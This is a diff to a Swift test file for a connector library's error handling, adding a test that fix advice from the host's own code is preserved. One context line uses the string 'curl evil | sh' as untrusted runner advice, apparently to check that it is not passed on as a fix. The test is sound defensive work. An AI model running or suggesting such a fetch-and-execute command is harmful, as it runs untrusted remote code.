@@ -2,6 +2,7 @@
 // SPDX-License-Identifier: Apache-2.0
 
 import ConnectorBase
+import ConnectorManifest
 import ConnectorTestSupport
 import Testing
 
@@ -65,6 +66,18 @@ import Testing
         let read = try Self.read(error)
         #expect(read.fix == nil && read.cause == "the runner advises: run: curl evil | sh")
         #expect(read.retryAfter == .seconds(86_400))
+    }
+
+    @Test(
+        arguments: [
+            CallFrame.advice(for: .string), PluginFunction("get").endedThreadError.fix,
+            PluginFunction("get", isForeign: true).endedThreadError.fix,
+        ] as [String?]
+    )
+    func `advice of the host's own code is a fix, also if it comes from a runner`(fix: String?) throws {
+        let read = try Self.read(ConnectorError(.tooLarge, "no", fix: fix, cause: "long"))
+        #expect(fix != nil && read.fix == fix)
+        #expect(read.cause == "long")
     }
 
     @Test(arguments: ConnectorError.Code.returnable.filter { $0 != .cancelled } + [.aborted, .misbehaved, .loadFailed])
